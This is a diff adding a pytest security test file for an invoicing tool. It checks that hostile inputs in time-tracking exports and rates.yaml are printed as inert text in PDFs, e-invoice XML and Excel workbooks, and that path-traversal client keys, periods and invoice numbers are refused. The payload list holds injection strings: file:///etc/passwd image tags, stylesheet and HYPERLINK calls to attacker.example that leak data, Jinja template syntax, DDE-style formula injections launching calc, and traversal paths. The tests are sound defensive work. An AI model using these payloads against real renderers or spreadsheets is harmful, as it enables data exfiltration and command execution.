@@ -1,0 +1,224 @@
+"""Attacks through the data: nothing in an input runs, fetches, or writes outside output/.
+
+A workspace whose exports and rates.yaml carry HTML, a file:// image, a stylesheet link, CSS
+url(), Jinja syntax, Excel formulas, very long strings, right-to-left and zero-width
+characters is billed, reviewed and reported. Proven: every payload is printed in the PDF as
+the text it is; the renderer asked for nothing but the template's own files; the invoice's
+HTML has exactly the template's elements that can load something; the e-invoice XML carries
+the payloads as text; no workbook has a formula cell other than its own totals; nothing was
+written outside output/. Keys, periods and invoice numbers that try path traversal are refused
+before any file is touched.
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+import unicodedata
+from pathlib import Path
+from unittest import mock
+
+import lxml.etree
+import lxml.html
+import openpyxl
+import pytest
+from pypdf import PdfReader
+
+from auftakt_batch import billing
+from auftakt_batch.billing import bill
+from auftakt_batch.config import parse_config
+from auftakt_batch.periods import parse_period
+from auftakt_batch.render import pdf
+from auftakt_batch.reports import review
+
+from .conftest import RATES, TODAY, Workspace, dedent
+
+NOVEMBER = parse_period("2026-11")
+PAYLOADS = [
+    '<img src="file:///etc/passwd">',
+    '<link rel="stylesheet" href="http://attacker.example/x.css">',
+    "<style>@import url('http://attacker.example/y.css');</style>",
+    "<div style=\"background: url('file:///etc/shadow')\">styled</div>",
+    "<script>document.write('pwned')</script>",
+    '<iframe src="http://attacker.example/frame"></iframe>',
+    "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %} {{ config }}",
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "zero\u200bwidth\u200d joiners\ufeff and marks\u200e",
+    "&lt;escaped already&gt; &amp; <!-- a comment --> ]]> <![CDATA[x]]>",
+]
+BIDI = {"\u202eevil\u202c reversed": "live reversed", "\u202eno end to it": "ti ot dne on"}  # -> as shown
+LONG = "long " * 1200  # 6,000 characters
+HOSTILE_RATES = dedent(RATES).replace(
+    "    name: ACME GmbH\n", "    name: \"ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>\"\n"
+    "    group_by: entry\n    appendix: true\n").replace(
+    "        name: Website relaunch\n", "        name: \"=HYPERLINK(\\\"http://attacker.example\\\") <i>web</i>\"\n")
+
+
+def hostile_workspace(root: Path) -> Workspace:
+    ws = Workspace(root).with_templates()
+    ws.rates(HOSTILE_RATES)
+    rows = [f"2026-11-{3 + i % 20:02d},Anna Schmidt,ACME,website,{_csv(p)},{_csv(p)},0:30,yes"
+            for i, p in enumerate(PAYLOADS)]
+    rows += [f"2026-11-24,Anna Schmidt,ACME,website,,{p},0:45,yes" for p in BIDI]
+    rows.append(f"2026-11-25,Anna Schmidt,ACME,website,,{_csv(LONG)},1:00,yes")
+    rows.append("2026-11-25,Ben Okafor,globex,app,,API,1:00,yes")
+    ws.input("hostile.csv", "date,person,client,job,task,description,hours,billable\n" + "\n".join(rows) + "\n")
+    return ws
+
+
+def _csv(text: str) -> str:
+    return '"' + text.replace('"', '""') + '"'
+
+
+def files_outside_output(root: Path) -> dict[str, tuple[int, int]]:
+    return {p.relative_to(root.parent).as_posix(): (p.stat().st_size, p.stat().st_mtime_ns)
+            for p in root.parent.rglob("*") if p.is_file() and not p.is_relative_to(root / "output")}
+
+
+@pytest.fixture(scope="module")
+def billed(tmp_path_factory):
+    """The hostile workspace, reviewed, billed (PDFs rendered in this process, each URL the
+    renderer asks for recorded) and reported."""
+    root = tmp_path_factory.mktemp("attacks") / "ws"
+    ws = hostile_workspace(root)
+    before = files_outside_output(root)
+    asked: list[str] = []
+    real = pdf.fetcher_within
+
+    def recording(folder: Path):
+        inner = real(folder)
+
+        class Recording(type(inner)):
+            def fetch(self, url, headers=None):
+                asked.append(url)
+                return super().fetch(url, headers)
+
+        return Recording(allowed_protocols={"file"})
+
+    html: list[str] = []
+    real_html = billing.invoice_html
+
+    def keep_html(*args, **kwargs):
+        html.append(real_html(*args, **kwargs))
+        return html[-1]
+
+    review(root, NOVEMBER, today=TODAY)
+    with mock.patch.object(pdf, "fetcher_within", recording), \
+            mock.patch.object(billing, "write_pdfs", functools.partial(pdf.write_pdfs, workers=1)), \
+            mock.patch.object(billing, "invoice_html", keep_html):
+        result = bill(root, NOVEMBER, today=TODAY)
+    assert result.stopped is None and [i.client_key for i in result.issued] == ["acme", "globex"]
+    return ws, result, asked, html, before
+
+
+def pdf_text(path: Path) -> str:
+    return "".join(page.extract_text() for page in PdfReader(path).pages)
+
+
+def visible(text: str) -> str:
+    """The text without white space and invisible format characters: the PDF wraps long
+    lines, and a text extractor may drop a zero-width or direction mark."""
+    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) != "Cf")
+
+
+def test_every_payload_is_printed_as_text(billed):
+    _, result, _, _, _ = billed
+    acme = visible(pdf_text(result.issued[0].pdf))
+    for payload in PAYLOADS:
+        assert visible(payload) in acme, payload
+    assert visible("ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>") in acme
+    assert acme.count("long") == 2 * LONG.count("long")  # in full on its line and in the appendix, across pages
+
+
+def test_a_direction_override_turns_its_own_text_only(billed):
+    _, result, _, _, _ = billed
+    shown = " ".join(pdf_text(result.issued[0].pdf).split())
+    for shown_as in BIDI.values():  # the Unicode bidi algorithm, within the cell: the hours and money stay put
+        assert f"— {shown_as} 24 Nov 2026 0.75 €120.00 €90.00" in shown, shown
+
+
+def test_the_renderer_fetched_nothing_but_the_templates_files(billed):
+    ws, _, asked, _, _ = billed
+    templates = (ws.root / "templates").resolve().as_uri()
+    assert asked, "the stylesheet at least is fetched"
+    assert [url for url in asked if not url.startswith(templates + "/")] == []
+
+
+def test_the_invoice_html_has_only_the_templates_elements_that_load_things(billed, tmp_path):
+    _, _, _, html, _ = billed
+    plain = Workspace(tmp_path / "plain").with_templates()
+    plain.input("week.csv", "date,person,client,job,task,description,hours,billable\n"
+                            "2026-11-03,Anna Schmidt,ACME,website,,Layout,1:00,yes\n")
+    with mock.patch.object(billing, "write_pdfs", lambda jobs, done, workers=None: plain_html.extend(
+            j.html for j in jobs)):
+        plain_html: list[str] = []
+        bill(plain.root, NOVEMBER, today=TODAY, draft=True)
+
+    def loaders(document: str) -> list[str]:
+        tree = lxml.html.fromstring(document)
+        found = [f"{e.tag} {e.get('src') or e.get('href') or e.get('data')}"
+                 for e in tree.iter("img", "link", "script", "iframe", "object", "embed", "base", "style", "svg")]
+        found += [f"style= {e.get('style')}" for e in tree.iter() if e.get("style") and "url(" in e.get("style")]
+        return found
+
+    assert loaders(html[0]) == loaders(plain_html[0])
+
+
+def test_the_einvoice_carries_the_payloads_as_text(billed):
+    _, result, _, _, _ = billed
+    xml = (result.issued[0].pdf.with_suffix(".xrechnung.xml"))
+    assert not xml.exists()  # ACME is not a public client here: the XML is inside the PDF
+    from .test_einvoice import embedded
+
+    root = lxml.etree.fromstring(embedded(result.issued[0].pdf), lxml.etree.XMLParser(resolve_entities=False))
+    names = [e.text for e in root.iter("{*}Name")]
+    assert "ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>" in names
+    assert not list(root.iter(lxml.etree.Entity))
+
+
+def test_no_workbook_has_a_formula_but_its_own_totals(billed):
+    ws, result, _, _, _ = billed
+    for path in (result.report.path, ws.root / "output" / "2026-11" / "review-2026-11.xlsx"):
+        book = openpyxl.load_workbook(path)
+        for sheet in book:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if cell.data_type == "f":
+                        assert sheet.title in ("Clients", "Jobs", "Team"), (path.name, sheet.title, cell.coordinate)
+                        assert str(sheet.cell(cell.row, 1).value).startswith("Total"), cell.coordinate
+                        assert re.fullmatch(r"=(SUMIFS|SUM|IF)\([A-Z0-9$:,\"<>=/ .*+()-]*\)", cell.value), cell.value
+                    elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
+
+
+def test_nothing_was_written_outside_output(billed):
+    ws, _, _, _, before = billed
+    assert files_outside_output(ws.root) == before
+    assert not (ws.root.parent / "x").exists()
+
+
+@pytest.mark.parametrize("key", ["../../x", "..", "a/b", "/etc/passwd", "acme/../../x", "ACME", "-x", "a\x00b"])
+def test_a_client_key_that_could_leave_output_is_refused(key):
+    config, problems = parse_config(dedent(RATES).replace("  acme:\n", f"  {key!r}:\n" if "\x00" not in key
+                                                          else '  "a\\0b":\n'))
+    assert config is None
+    assert any("is not a key of lower-case letters, digits and '-' (it is used in file names)" in str(p)
+               for p in problems), problems
+
+
+@pytest.mark.parametrize("args", [
+    ["bill", "--period", "../../x"],
+    ["bill", "--period", "2026-11", "--client", "../../x"],
+    ["void", "../../2026-0001", "--reason", "x"],
+    ["review", "--period", "2026-11/../../x"],
+])
+def test_a_period_client_or_number_that_tries_traversal_is_refused(args, tmp_path):
+    ws = hostile_workspace(tmp_path / "ws")
+    before = files_outside_output(ws.root)
+    result = ws.cli(*args)
+    assert result.exit_code != 0
+    assert files_outside_output(ws.root) == before
+    assert not (tmp_path / "x").exists() and not any((tmp_path / "ws" / "output").rglob("*.pdf"))
